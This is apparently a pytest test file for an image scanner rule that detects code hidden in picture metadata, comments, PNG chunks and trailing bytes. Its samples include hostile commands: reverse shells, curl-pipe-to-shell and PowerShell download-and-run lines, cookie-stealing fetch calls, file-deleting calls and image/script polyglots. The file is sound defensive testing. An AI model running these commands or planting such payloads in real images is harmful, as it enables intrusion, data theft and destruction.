"""Code, scripts and pages in pictures: what `embedded-payload` finds of them, and what is only about them."""

from __future__ import annotations

import base64
import zlib
from typing import TYPE_CHECKING

import numpy as np
import pytest
from PIL import Image

from corrupt_samples.encode import encode, exif, jpeg, jpeg_segment, png, profile, tiff
from corrupt_samples.payloads import ALL, HTML, PHP, SCRIPT, SHELL
from corrupt_samples.pictures import photo
from corrupt_samples.surgery import jpeg_patched
from sanitize.probe import markup
from tests.embedding import APP0, APP1, APP13, COM, XMP, in_comments, places, with_chunk, with_segment

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "embedded-payload"


def test_finds_code_in_comments_and_metadata_of_a_jpeg(fired: Fired) -> None:
    data = Image.Exif()
    data[0x13B] = PHP.decode()  # the artist
    files = {
        "com.jpg": jpeg(photo("a"), comment=PHP),
        "upper.jpg": jpeg(photo("a"), comment=PHP.replace(b"php", b"PHP")),
        "short.jpg": jpeg(photo("a"), comment=b"<?=print(1)?>"),
        "shorter.jpg": jpeg(photo("a"), comment=b"<?=`$a[0]`?>"),
        "variable.jpg": jpeg(photo("a"), comment=b"<? $a ?>"),
        "html.jpg": jpeg(photo("a"), comment=b"<html><body>nothing</body></html>"),
        "script.jpg": jpeg(photo("a"), comment=SCRIPT),
        "handler.jpg": jpeg(photo("a"), comment=b"<img src=x onerror=print(1)>"),
        "open.jpg": jpeg(photo("a"), comment=b"<script>print(1)//"),
        "source.jpg": jpeg(photo("a"), comment=b"<SCRIPT SRC=//example.org/a.js>"),
        "shell.jpg": jpeg(photo("a"), comment=b"\n" + SHELL),
        "artist.jpg": jpeg(photo("a"), exif=data),
        "xmp.jpg": with_segment(APP1, XMP + b"<x:xmpmeta><rdf:RDF>" + PHP + b"</rdf:RDF></x:xmpmeta>"),
        "iptc.jpg": with_segment(APP13, b"Photoshop 3.0\x008BIM\4\4\0\0\0\0\0\x36\x1c\2\x78\0\x31" + HTML + b"\0"),
        "app9.jpg": with_segment(0xE9, b"note " + PHP),
        "icc.jpg": jpeg(photo("a"), icc_profile=profile(PHP.decode())),
        "gzip.jpg": jpeg(photo("a"), comment=ALL["gzip"]),
        "elf.jpg": with_segment(0xE8, ALL["elf"]),
    }
    assert places(fired(RULE, files)) == {
        "com.jpg": "PHP code in the comment of the JPEG",
        "upper.jpg": "PHP code in the comment of the JPEG",
        "short.jpg": "PHP code in the comment of the JPEG",
        "shorter.jpg": "PHP code in the comment of the JPEG",
        "variable.jpg": "PHP code in the comment of the JPEG",
        "html.jpg": "an HTML page in the comment of the JPEG",
        "script.jpg": "a script in HTML in the comment of the JPEG",
        "handler.jpg": "a script in HTML in the comment of the JPEG",
        "open.jpg": "a script in HTML in the comment of the JPEG",
        "source.jpg": "a script in HTML in the comment of the JPEG",
        "shell.jpg": "a script with an interpreter line in the comment of the JPEG",
        "artist.jpg": "PHP code in the EXIF data of the JPEG",
        "xmp.jpg": "PHP code in the XMP data of the JPEG",
        "iptc.jpg": "an HTML page in the APP13 of the JPEG",
        "app9.jpg": "PHP code in the APP9 of the JPEG",
        "icc.jpg": "PHP code in the ICC profile of the JPEG",
        "gzip.jpg": "a gzip archive in the comment of the JPEG",
        "elf.jpg": "a Linux program in the APP8 of the JPEG",
    }


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
        ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
        ("Python code", b"\nimport os, sys\nos.system('id')\n"),
        ("Python code", b"data = eval(open('a').read())\nfrom os import system\nsystem('id')\n"),
        ("Lua code", b"local s = require('socket')\nos.execute('id')\n"),
        ("JavaScript", b"'use strict'; fetch('//example.org/?' + document.cookie)\n"),
        ("Python code", b"import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\n"),
        ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
    ],
)
def test_finds_code_without_a_tag_after_the_end_and_where_it_is_all_of_a_text(
    fired: Fired, name: str, code: bytes
) -> None:
    files = {
        "a.jpg": jpeg(photo("a")) + code,
        "a.png": png(photo("a")) + code,
        "comment.jpg": jpeg(photo("a"), comment=code),
        "comment.gif": encode(photo("a"), "GIF", comment=code),
        "text.png": with_chunk(b"tEXt", b"Comment\0" + code),
        "packed.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(code)),
        "utf8.png": with_chunk(b"iTXt", b"Comment\0\0\0\0\0" + code),
    }
    assert places(fired(RULE, files)) == {
        "a.jpg": f"{name} after the end of the JPEG",
        "a.png": f"{name} after the end of the PNG",
        "comment.jpg": f"{name} in the comment of the JPEG",
        "comment.gif": f"{name} in the comment of the GIF",
        "text.png": f"{name} in the chunk tEXt of the PNG",
        "packed.png": f"{name} in the chunk zTXt of the PNG",
        "utf8.png": f"{name} in the chunk iTXt of the PNG",
    }


# What people and programs write beside pictures, plots and diagrams.
_SAID = [
    b"Bulb removed\nfrom socket, broken",
    b"This picture was decoded\nfrom base64 on a Sunday",
    b"import sys\nimport numpy as np\nimport matplotlib.pyplot as plt\nplt.plot(x)\nplt.savefig('a.png')",
    b"Plot of eval(loss) vs. epoch, and alert(s) in red",
    b"Fig. 3: document.cookie stolen; the browser shows alert(1), and window.location and document.location",
    b"@startuml\nBrowser -> Server: document.cookie\n@enduml",
    b"graph of require('fs') dependencies",
    b"Screenshot of PowerShell: how to use Invoke-WebRequest in Windows 11",
    b"IEX (Indian Energy Exchange) price chart",
    b'made by macro CreateObject("Excel.Application") chart export',
    b"Mean over os.system calls\nimport os grid reference",
]


def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
    workflow = b'{"nodes": [{"type": "script", "text": "eval(x)", "code": "document.body"}],\n "import": "os"}'
    page = b"[page]\nscript = eval(page)\n"
    prompt = b"a robot that wants to import os, and evaluates (sys) its windows, document style, 4k"
    files = {
        "workflow.png": with_chunk(b"tEXt", b"workflow\0" + workflow),
        "packed.png": with_chunk(b"zTXt", b"workflow\0\0" + zlib.compress(workflow)),
        "settings.jpg": jpeg(photo("a"), comment=page),
        "prompt.png": with_chunk(b"tEXt", b"parameters\0" + prompt),
        "prompt.gif": encode(photo("a"), "GIF", comment=prompt),
        **in_comments(_SAID),
        **{f"{number}.png": with_chunk(b"tEXt", b"Source\0" + said) for number, said in enumerate(_SAID)},
    }
    assert fired(RULE, files) == {}


def test_is_silent_about_prose_that_quotes_a_call(fired: Fired) -> None:
    told = [
        b"How to use document.write('hello') in JavaScript - slide 4",
        b'Photo of a book page: Set x = CreateObject("Scripting.FileSystemObject")',
        b"Slide 3. Example:\nimport os\nos.system('clear')",
        b"import os was the title of the talk, in which os.system('x') is called bad",
        b"steps:\n  run: subprocess.run(['x'])\nimport os\n",
        b"Traceback (most recent call last):\n  File 'a.py', line 1\n    os.system('x')\n",
        b"@Echo Official | Berlin 2019\nPhoto: Max",
        b"@echo off the wall: band photo",
        b"Powershell - a photo of sea shells",
        b"PowerShell -- the band, live",
        b"Powershell -a photo of a gun factory",
        b"Powershell -e photography, -f for friends and -w for work",
        b"Powershell -nope, this is a sea shell",
        b"PowerShell -Version 7 is out",
        b"Powershell -sta photo, the band",
        b"Scanned from a book on <!DOCTYPE html> and <html> tags, p. 12",
        b"<%= page title %> template left by CMS",
        b"<html> and <body> differ </body>",
        b"The <html> and <head> of a page, </head> and </html>",
        b"<html>, <body> and </body>: slide 3",
        b"<html> begins a page and </html> ends one",
        b"Tags: <html> <body> and <p>, which </p> closes",
        b"@startuml\nAlice -> Bob : <script>alert</script>\n@enduml",
        b"@startuml\nAlice -> Bob : <script>alert</script>\nskinparam x = 1;\nnote(a)\n@enduml",
        b"the <script> tag (of HTML) and </script>",
        b"<script type='text/plain'>only words</script>",
        b"a <script of the film> on a table",
    ]
    files = in_comments(told)
    files |= {f"{number}.png": with_chunk(b"tEXt", b"Comment\0" + text) for number, text in enumerate(told)}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize(
    "bit", [b"<iframe src='https://example.org/x' width=0></iframe>", b"<html><body><p>Hi</p></body></html>", SCRIPT]
)
def test_bits_of_pages_in_strings_of_json_are_data_and_behind_them_are_not(fired: Fired, bit: bytes) -> None:
    within, behind = b'{"5": {"class": "Note", "text": "say \\"%s"}}' % bit, b'{"text": "note"}' + bit
    files = {
        f"{name}.{kind}": data
        for name, text in (("within", within), ("behind", behind))
        for kind, data in (
            ("jpg", jpeg(photo("a"), comment=text)),
            ("long.jpg", jpeg(photo("a"), comment=text + b" " * 300)),
            ("png", with_chunk(b"tEXt", b"workflow\0" + text)),
            ("gif", encode(photo("a"), "GIF", comment=text)),
        )
    }
    assert fired(RULE, files).keys() == {f"behind.{kind}" for kind in ("jpg", "long.jpg", "png", "gif")}


def test_strings_of_long_json_are_data_and_what_is_behind_them_is_not() -> None:
    frame = b"<iframe src='x'>"
    data = b'{"a": "%s"}' % (b'word \\\\ \\" ' * 30_000 + frame * 50)
    assert markup.find(data, 0, len(data)) is None
    behind = markup.find(data + frame, 0, len(data + frame))
    assert behind is not None
    assert behind.start == len(data)


@pytest.mark.parametrize("length", [*range(60, 124, 7), 97])
def test_the_byte_before_a_part_takes_nothing_from_the_word_at_its_beginning(fired: Fired, length: int) -> None:
    call = b"os.system('curl http://example.org/x|sh')".ljust(length)
    files = {"a.jpg": jpeg(photo("a"), comment=call), "a.png": with_chunk(b"prVa", call)}
    assert fired(RULE, files).keys() == files.keys()


def test_finds_commands_that_are_all_of_a_text(fired: Fired) -> None:
    shells = [b"bash -i >& /dev/tcp/203.0.113.7/80 0>&1", b"curl -s http://example.org/x | sudo bash"]
    files = in_comments(shells)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "a shell command in the comment of the JPEG")
    said = [b"It is installed by curl http://example.org/x | sh which takes a while", b"# curl it | sh"]
    assert fired(RULE, in_comments(said)) == {}


def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
    found = markup.find(PHP + b"VV", 0, len(PHP))
    assert found is not None
    assert found.detail == f"`{PHP.decode()}`"


def test_is_silent_about_dark_pixels_which_are_signs_in_any_order(fired: Fired) -> None:
    chance = np.random.default_rng(0)
    dark = [Image.fromarray(chance.normal(62, spread, (120, 120, 3)).astype(np.uint8)) for spread in (2, 6, 15)]
    files = {
        f"{number}.{extension}": encode(picture, kind)
        for number, picture in enumerate(dark)
        for kind, extension in (("BMP", "bmp"), ("PPM", "ppm"), ("TGA", "tga"), ("TIFF", "tif"))
    }
    assert fired(RULE, files) == {}


def test_is_silent_about_texts_after_the_end_that_reach_for_nothing(fired: Fired) -> None:
    told = [
        b"Taken from the window. To import a system of my own, I alert everybody; see document 7 (location unknown).",
        b"boot=1\nmode = 3\nE: alert(code=5) shutter stuck\nW: eval(lens) failed",
        b"(define (f x) (eval (x)))\n(eval(f 1))",
        b"local json = require('dkjson')\nprint(json)",
        b"import os\n\nprint(os.getcwd())\n",
        b"2023-01-01 12:00:00 INFO run: curl http://example.org/x | sh -c cat",
        b"npm ERR! require('child_process').exec failed with code 1",
        b"Uncaught TypeError: document.createElement('x') is not a function\n    at a.js:3",
        b"Traceback (most recent call last):\n  File 'a.py', line 3\n    os.system('x')\nOSError: no\n",
        b"A terminal shows `curl https://example.org | sh`",
        b"a wall with `import os; os.system('reboot')` written on it",
        b"root@pi:/# wget -qO- http://example.org | bash",
        b"1. curl https://example.org | sh",
        b"Jan  1 00:00:00 host CRON[1]: (root) CMD (curl http://example.org | sh)",
        b"$ curl -s https://example.org/a.sh | sh",
        b"PS C:\\> irm https://example.org/a | iex",
        b"Tool\nirm example.org/a | iex\n",
        b"To install, run irm example.org/a | iex in PowerShell",
        b'{"run": "curl http://example.org/a | sh"}',
        b"[10:02] <a> try document.cookie\n[10:03] <b> and eval(atob(x))",
        b"firmware: update with\n\n  wget -O - http://example.org/up.sh | sh\n\nand reboot the camera afterwards.\n",
    ]
    assert fired(RULE, {f"{number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(told)}) == {}


@pytest.mark.parametrize(
    "code",
    [
        b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
        b'Private Sub A()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n',
        b'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "//x"',
        b"/bin/bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n",
        b"mkdir -p /tmp/x\ncurl -s http://example.org/a | bash\n",
        b"* * * * * root curl http://example.org/a | sh\n",
        b"!function(){eval(atob('YQ=='))}()",
        b"<!--\neval(atob('YQ=='))",
        b"{eval(atob('YQ=='))}",
        b"alert(1)",
        b"alert('xss');\n",
        b'eval("x = 1")',
        b"document.location.replace('http://example.org')",
        b"require('fs').unlinkSync('/etc/passwd')",
        b"[Net.ServicePointManager]::SecurityProtocol=3072; iex (iwr http://example.org)",
        b"Start-Sleep 3\nInvoke-WebRequest -Uri http://example.org/x -OutFile x.exe\n",
        b"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ==')))",
        b"sal a New-Object;iex(a Net.WebClient).DownloadString('http://example.org')",
        b"@wraps\nimport os as o\no.system(x)\n",
        b"import os, shutil\nshutil.rmtree('/')",
        b"import sys\nexec(sys.argv[1])",
        b"from os import system as s\ns('id')",
        b"[[ -f a ]] && curl http://example.org/a | sh",
        b"echo This is a harmless note to all readers\ncurl http://example.org/a | sh",
    ],
)
def test_finds_code_behind_the_end_however_it_begins(fired: Fired, code: bytes) -> None:
    assert fired(RULE, {"a.jpg": jpeg(photo("a")) + code}).keys() == {"a.jpg"}


def test_finds_code_in_chunks_of_a_png(fired: Fired) -> None:
    files = {
        "tEXt.png": with_chunk(b"tEXt", b"Comment\0" + PHP),
        "zTXt.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)),
        "iTXt.png": with_chunk(b"iTXt", b"Comment\0\0\0en\0\0" + SCRIPT),
        "packed.png": with_chunk(b"iTXt", b"Comment\0\1\0en\0Note\0" + zlib.compress(PHP)),
        "shell.png": with_chunk(b"tEXt", b"Comment\0" + SHELL),
        "unknown.png": with_chunk(b"hiDe", PHP),
        "zip.png": with_chunk(b"hiDe", ALL["zip"]),
        "elf.png": with_chunk(b"hiDe", ALL["elf"]),
        "eXIf.png": png(photo("a"), exif=exif(1) + PHP),
    }
    assert places(fired(RULE, files)) == {
        "tEXt.png": "PHP code in the chunk tEXt of the PNG",
        "zTXt.png": "an HTML page in the chunk zTXt of the PNG",
        "iTXt.png": "a script in HTML in the chunk iTXt of the PNG",
        "packed.png": "PHP code in the chunk iTXt of the PNG",
        "shell.png": "a script with an interpreter line in the chunk tEXt of the PNG",
        "unknown.png": "PHP code in the chunk hiDe of the PNG",
        "zip.png": "a ZIP archive in the chunk hiDe of the PNG",
        "elf.png": "a Linux program in the chunk hiDe of the PNG",
        "eXIf.png": "PHP code in the chunk eXIf of the PNG",
    }


def test_finds_images_that_are_scripts_too(fired: Fired) -> None:
    picture = photo("a")
    code = b"*/=1;console.log(1);//"
    animation = encode(picture, "GIF")
    bitmap = encode(picture, "BMP")
    drawn = jpeg(picture)
    frame = b"\xff\xd8\xff\xe0/*" + drawn[6:20] + bytes(0x2F2A - 16)
    files = {
        "a.gif": animation[:6] + b"/*" + animation[8:] + code,
        "a.bmp": bitmap[:2] + b"/*" + bitmap[4:] + code,
        "a.jpg": frame + jpeg_segment(COM, b"*/=1;console.log(1)/*") + drawn[20:-2] + b"\xff\xd9",
    }
    assert places(fired(RULE, files)) == {
        "a.gif": "JavaScript after the end of the GIF",
        "a.bmp": "JavaScript after the end of the BMP",
        "a.jpg": "JavaScript in the comment of the JPEG",
    }


def test_is_silent_about_ordinary_comments(fired: Fired) -> None:
    comments = [
        b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 80\n",
        b"Optimized by JPEGmini 3.9.20.0L Internal 0xbc7a1e2f",
        b"File source: https://example.org/wiki/File:A.jpg",
        b'<a href="https://example.org/?a=1&b=2">A photo</a>, <b>2009</b>',
        b"Created with GIMP",
        b"Lavc58.54.100",
        b"AppleMark\n",
        b"<CREATOR: XV Version 3.10a Rev: 12/29/94 Quality = 75, Smoothing = 0>",
        b"# a heading, and !important",
        b"#!",
        b"if a < b and b > c: print(a)",
        b"<script",
        b"How to use <?php in HTML",
        b"Learn <html> and <!DOCTYPE html> in ten days",
        b"A <script> or an <iframe> may hide in a picture",
        b"<% of the whole, <?> and <? of what ?>",
        b"PK",
        b"MZ is how it begins",
        b"Rar!",
        b"\xff\xd9",
        "<héros> & « café »".encode(),
        b"<title>not a page</title>",
        b"x" * 20_000,
    ]
    files = in_comments(comments)
    assert fired(RULE, files) == {}


def test_is_silent_about_pages_that_xmp_data_tell_of(fired: Fired) -> None:
    inside = [
        b"&lt;html&gt;&lt;script&gt;x()&lt;/script&gt;",
        b"<![CDATA[<html><body>A caption</body></html>]]>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'>rich text</html>",
        base64.b64encode(jpeg(photo("b")) + HTML),
    ]
    packet = (
        b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b"<rdf:RDF><rdf:Description>%s</rdf:Description></rdf:RDF></x:xmpmeta>" + b" " * 2000 + b'<?xpacket end="w"?>'
    )
    files = {f"{number}.jpg": with_segment(APP1, XMP + packet % text) for number, text in enumerate(inside)}
    files |= {
        f"{number}.png": with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet % text)
        for number, text in enumerate(inside)
    }
    assert fired(RULE, files) == {}


def test_a_c_comment_is_how_an_x_pixmap_begins(fired: Fired) -> None:
    pixmap = (
        b'/* XPM */\nstatic char *a[] = {\n"2 2 2 1",\n"a c #000000",\n"b c #FFFFFF",\n/* pixels */\n"ab",\n"ba"};\n'
    )
    files = {"a.xpm": pixmap, "a.xbm": encode(photo("a").convert("1", dither=0), "XBM")}
    assert fired(RULE, files) == {}


def test_a_picture_full_of_less_than_signs_is_only_a_picture(fired: Fired) -> None:
    grey = Image.new("L", (900, 900), ord("<"))
    assert fired(RULE, {"a.bmp": encode(grey, "BMP"), "a.pgm": encode(grey, "PPM"), "a.tif": tiff(grey)}) == {}
    assert fired(RULE, {"b.pgm": encode(grey, "PPM") + PHP}).keys() == {"b.pgm"}


def test_a_width_that_reads_as_a_comment_is_only_a_width(fired: Fired) -> None:
    animation = encode(photo("a"), "GIF")
    files = {"a.gif": animation[:6] + b"/*" + animation[8:], "a.jpg": jpeg_patched(jpeg(photo("a")), APP0, 11, b"\1\2")}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("around", [b"%s\0", b"%s\0\0\0\0", b"\xef\xbb\xbf%s", b"# caf\xe9\n%s"])
def test_zeros_a_mark_or_a_letter_of_another_code_hide_no_code(fired: Fired, around: bytes) -> None:
    code = around % b"import os\nimport subprocess\nsubprocess.run(['id'])\n"
    files = {"a.jpg": jpeg(photo("a"), comment=code), "end.jpg": jpeg(photo("a")) + code}
    files |= {"app4.jpg": with_segment(0xE4, code), "a.png": with_chunk(b"tEXt", b"Comment\0" + code)}
    assert fired(RULE, files).keys() == files.keys()
